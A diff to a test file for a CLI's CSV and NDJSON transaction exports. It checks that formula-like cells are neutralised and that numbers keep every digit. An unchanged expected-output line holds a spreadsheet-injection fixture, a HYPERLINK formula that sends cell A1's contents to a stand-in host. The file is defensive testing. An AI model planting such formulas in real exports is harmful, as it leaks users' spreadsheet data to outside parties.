@@ -2,6 +2,7 @@
 // item 5): a transaction description, a merchant name or a key that starts with =, +, -, @ or a
 // tab is written with a ' in front; plain numbers, negative amounts among them, are left alone.
 // A person at a terminal and a script, each way: the whole-reply writer and merchants' streamed one.
+// Numbers are written as the reply has them, every digit kept (-1e400 too), and never prefixed.
 import { describe, expect, it } from 'vitest';
 import { FakeService, MODES, svc } from '../support/in-process.js';
 
@@ -76,5 +77,22 @@ describe.each(MODES)('-o csv, for $mode: cells that would run as formulas get a 
       'input,type,matched,terminal,merchant,mcc,category,city\r\n' +
         `9000000000000001,terminal,true,9000000000000001,"'=HYPERLINK(""http://x.test/?""&A1,""Refund"")",5411,'+groceries,'-\r\n`,
     );
+  });
+});
+
+describe.each(MODES)('numbers as received, for $mode: every digit kept, and a plain number, however written, is no formula', ({ tty }) => {
+  const raw = `{"count":1,"transactions":[{"id":"txn_1","date":"2026-03-25","description":"REFUND","debit":125000.50,"balance":-1e400,"ref":12345678901234567890,"split":{"a":-0.10}}]}`;
+  const service = () => new FakeService().expect('GET', `/v1/reports/${ID}/transactions`, { raw });
+
+  it('-o csv', async () => {
+    const result = await svc(['reports', 'transactions', ID, '-o', 'csv'], { tty, service: service() });
+    expect(result.code, result.stderr).toBe(0);
+    expect(result.stdout).toBe('id,date,description,debit,balance,ref,split\r\ntxn_1,2026-03-25,REFUND,125000.50,-1e400,12345678901234567890,"{""a"":-0.10}"\r\n');
+  });
+
+  it('-o ndjson', async () => {
+    const result = await svc(['reports', 'transactions', ID, '-o', 'ndjson'], { tty, service: service() });
+    expect(result.code, result.stderr).toBe(0);
+    expect(result.stdout).toBe(`${raw.slice(raw.indexOf('[') + 1, raw.lastIndexOf(']'))}\n`);
   });
 });
